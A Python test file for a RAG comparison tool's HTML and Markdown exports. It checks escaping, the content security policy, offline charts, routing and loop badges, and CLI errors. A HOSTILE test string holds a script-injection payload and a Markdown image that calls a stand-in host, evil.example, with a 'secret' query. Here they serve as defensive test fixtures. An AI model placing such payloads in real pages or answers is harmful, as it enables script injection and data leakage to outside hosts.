"""Take a comparison away: a self-contained HTML one-pager (answers, badges, timings, citations and
the plotly charts, plotly.js inline so it opens offline) and Markdown, from the page's download
buttons and ``python -m ragtune lab --html/--markdown``. Everything a user, a document or the model
wrote is untrusted: the HTML escapes it and loads nothing; the Markdown keeps it inert."""

from __future__ import annotations

from pathlib import Path

import pytest

from ragtune.cli import main
from ragtune.config import load_settings
from ragtune.lab import Failed, Finished
from ragtune.lab_export import comparison_html, comparison_markdown
from ragtune.lab_share import LabComparison
from ragtune.modes import BUILTIN_MODES
from ragtune.store import QueryLog
from tests.test_lab_badges import PRICE, grounded_answer

HOSTILE = ("</div><script>alert(1)</script><img src=http://evil.example/p.png> "
           "![leak](http://evil.example/?q=secret) $1,249")
MODES = {m.id: m for m in BUILTIN_MODES}


def comparison(*, stored: bool = False) -> LabComparison:
    from ragtune.evaluation.scoring import judge_answer

    fresh = grounded_answer(HOSTILE, "invalid_json")
    results: list = [Finished(mode=MODES["rag"], answer=fresh, verdict=judge_answer(PRICE, "v1", fresh),
                              version="v1", run_id="0123456789ab"),
                     Failed(mode=MODES["lora"], error="The adapter <b>grounded-json</b> does not fit this model.")]
    if stored:
        log = QueryLog(load_settings().query_log_file)
        results[0] = log.get(log.add(fresh, verdict="correct", verdict_note="matches the documents: $1,249"))
    return LabComparison(question=f"{PRICE.question} {HOSTILE}", workspace="demo", mode_ids=["rag", "lora"],
                         run_id="0123456789ab", results=results, stored=stored)


@pytest.mark.parametrize("stored", [False, True], ids=["fresh", "logged"])
def test_the_html_one_pager_has_every_part_and_lets_no_text_become_markup(stored, data_dir):
    page = comparison_html(comparison(stored=stored))
    assert page.startswith("<!DOCTYPE html>") and "Content-Security-Policy" in page and "default-src 'none'" in page
    for part in ("correct", "asked for JSON · got free text", "RAG", "LoRA", "Could not answer",
                 "first token", "prompt tokens", "ragtune-latency", "ragtune-cost", "run 0123456789ab"):
        assert part in page, part
    # plotly.js is inline (its bundle, no <script src>), so the file opens offline
    assert "Plotly.newPlot" in page and len(page) > 1_000_000 and "<script src" not in page
    # the untrusted text appears only escaped: no tag of it survives, nothing loads
    assert "<script>alert(1)" not in page and "<img" not in page and "<b>grounded-json" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=http://evil.example/p.png&gt;" in page  # shown as the text it is


def test_the_markdown_has_the_badges_and_measures_and_keeps_text_inert(data_dir):
    text = comparison_markdown(comparison())
    assert text.startswith("# ragtune Lab comparison")
    assert "**correct** · asked for JSON · got free text" in text
    assert "Could not answer" in text and "| RAG |" in text and "prompt tokens" in text
    assert "![leak]" not in text and "<script>" not in text and "<img" not in text
    assert "!\\[leak]" in text and "&lt;script>" in text
    quoted = [line for line in text.splitlines() if "alert(1)" in line]
    assert quoted and all(line.startswith(">") for line in quoted if "leak" in line)  # inside its quote


def routed_and_looping(*, stored: bool) -> LabComparison:
    """A routing mode's answer (its route and the router's time) and a free-text answer stopped in a loop,
    fresh or read back from the log."""
    from tests.test_components_contract import route_taken
    from tests.test_store import answer

    routed = answer("rag").model_copy(update={
        "mode": MODES["route"], "route": route_taken(),
        "timings": answer().timings.model_copy(update={"routing_ms": 80.0})})
    looping = answer("rag").model_copy(update={
        "mode": MODES["knowledge-lora"], "text": "la Femme la Femme la Femme", "finish_reason": "repetition"})
    looping = looping.model_copy(update={"parse": looping.parse.model_copy(update={"status": "free_text",
                                                                                   "parsed": None})})
    results: list = [Finished(mode=MODES["route"], answer=routed), Finished(mode=MODES["knowledge-lora"],
                                                                            answer=looping)]
    if stored:
        log = QueryLog(load_settings().query_log_file)
        results = [log.get(log.add(a.answer)) for a in results]
    return LabComparison(question="Refund me", workspace="demo", mode_ids=["route", "knowledge-lora"],
                         run_id="0123456789ab", results=results, stored=stored)


@pytest.mark.parametrize("stored", [False, True], ids=["fresh", "logged"])
def test_the_exports_say_the_route_taken_the_routers_time_and_a_loop_stopped_in_free_text(stored, data_dir):
    comparison = routed_and_looping(stored=stored)
    for text in (comparison_markdown(comparison), comparison_html(comparison)):
        assert "Routed: billing → billing-handoff (a fixed answer) · router 80 ms" in text
        assert "routing 0.08 s" in text  # the router's own time, beside the total
        assert "Stopped: repetition — the answer began repeating itself" in text
        assert "answer-length" not in text


def test_the_cli_writes_both_exports_of_a_comparison(team_workspace, tmp_path, capsys):
    team_workspace(max_tokens=8)
    html_file, md_file = tmp_path / "out" / "lab.html", tmp_path / "lab.md"
    assert main(["lab", "How much is the Poolpilot P1?", "--workspace", "team", "--modes", "base,rag",
                 "--html", str(html_file), "--markdown", str(md_file)]) == 0
    page, markdown = html_file.read_text(encoding="utf-8"), md_file.read_text(encoding="utf-8")
    assert page.count('class="card"') == 2 and "ragtune-cost" in page
    assert "## Base" in markdown and "## RAG" in markdown
    run_ids = {e.run_id for e in QueryLog(load_settings().query_log_file).entries()}
    assert len(run_ids) == 1 and f"run {run_ids.pop()}" in markdown  # the run the log holds


@pytest.mark.parametrize("option", ["--html", "--markdown"])
def test_an_unwritable_export_path_is_refused_before_anything_runs(option, tmp_path, capsys):
    with pytest.raises(SystemExit) as exited:
        main(["lab", "Anything?", "--modes", "base", option, str(tmp_path)])  # a directory
    assert exited.value.code == 2
    assert f"argument {option}" in capsys.readouterr().err


def test_an_over_long_question_is_refused_by_the_cli_with_its_length(capsys):
    assert main(["lab", "x" * 2001, "--modes", "base"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "2,001 characters" in err and "2,000" in err


@pytest.mark.slow
@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Debian's chromium is not installed")
def test_the_one_pager_draws_its_charts_offline_in_a_real_browser(tmp_path, data_dir):
    from playwright.sync_api import sync_playwright

    from tests.test_browser import CHROMIUM, CHROMIUM_ARGS

    path = tmp_path / "lab.html"
    path.write_text(comparison_html(comparison()), encoding="utf-8")
    requests, problems = [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            tab = browser.new_page()
            tab.on("request", lambda r: requests.append(r.url))
            tab.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
            tab.on("pageerror", lambda e: problems.append(str(e)))
            tab.goto(path.as_uri())
            tab.wait_for_selector("#ragtune-cost .main-svg", timeout=20_000)
            assert tab.locator("#ragtune-latency .main-svg").count() >= 1
            assert tab.locator("script").count() >= 2 and not tab.evaluate("typeof alert_called !== 'undefined'")
            assert "alert(1)" in tab.inner_text("body")  # the hostile text, shown as text
        finally:
            browser.close()
    assert requests == [path.as_uri()], requests  # nothing fetched but the file itself
    assert problems == [], problems
